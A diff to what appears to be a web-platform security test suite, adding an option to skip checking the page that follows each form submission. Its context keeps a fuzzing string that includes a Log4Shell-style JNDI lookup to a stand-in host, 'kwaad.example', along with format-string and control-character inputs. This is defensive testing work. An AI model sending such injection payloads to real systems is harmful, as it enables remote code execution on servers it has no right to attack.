@@ -45,8 +45,13 @@ UNSEEN = ("\x00", "\x07", "\x08", "\x1b", "\u202e", "\u2066")
 ODD = f"{MARK} %s%n%(name)s {{0}} {{name.__class__}} ﷽ İIıſ ﬁ Ⅷ 👩‍👩‍👧 e\u0301 \ufeff\ufffe {'Z̴͛' * 20} ${{jndi:ldap://kwaad.example/a}}"
 
 
-def typed_everywhere(target: Target, payload: str, look: Callable[[Oracle, Shown, TestResponse], list[str]]) -> None:
-    """Type this into each form of the platform; each time look at the answer, and at the page it leads to."""
+def typed_everywhere(
+    target: Target, payload: str, look: Callable[[Oracle, Shown, TestResponse], list[str]], is_followed: bool = True
+) -> None:
+    """Type this into each form of the platform; each time look at the answer, and at the page it leads to.
+
+    Who looks into the tables only need not follow.
+    """
     stage, faults, taken = target.stage(), [], 0
     posts = [each for each in stage.forms if each.method == "post"]
     with stage.oracle() as oracle:
@@ -56,7 +61,9 @@ def typed_everywhere(target: Target, payload: str, look: Callable[[Oracle, Shown
                 taken += answer.status_code == 302
                 if answer.status_code >= 500:
                     faults.append(f"{form.endpoint}: {answer.status_code}")
-                faults += look(oracle, form, answer) + look(oracle, form, followed(oracle, form, answer))
+                faults += look(oracle, form, answer)
+                if is_followed:
+                    faults += look(oracle, form, followed(oracle, form, answer))
     assert faults == []
     assert len(posts) >= 35 and taken >= 10, (len(posts), taken)
 
@@ -100,7 +107,7 @@ def sql_typed(target: Target) -> None:
         return [] if there else [form.endpoint]
 
     start = clock.now()
-    typed_everywhere(target, SQL, tables)
+    typed_everywhere(target, SQL, tables, is_followed=False)
     assert (clock.now() - start).total_seconds() < 120
 
 
@@ -146,7 +153,7 @@ def is_odd(mail: OutboxMail) -> bool:
     ["1.3.10", "2.2.1"],
 )
 def odd_typed(target: Target) -> None:
-    typed_everywhere(target, ODD, lambda _oracle, _form, _answer: [])
+    typed_everywhere(target, ODD, lambda _oracle, _form, _answer: [], is_followed=False)
 
 
 @attack(
@@ -367,4 +374,4 @@ def typed_into_trail(target: Target) -> None:
         rows = oracle.connection.execute(select(TrailRow).where(cast(TrailRow.facts, Text).contains(MARK))).all()
         return [f"{form.endpoint}: {canonical_text(row)}" for row in rows]
 
-    typed_everywhere(target, f"{MARK} vertrouwelijke uitleg", look)
+    typed_everywhere(target, f"{MARK} vertrouwelijke uitleg", look, is_followed=False)
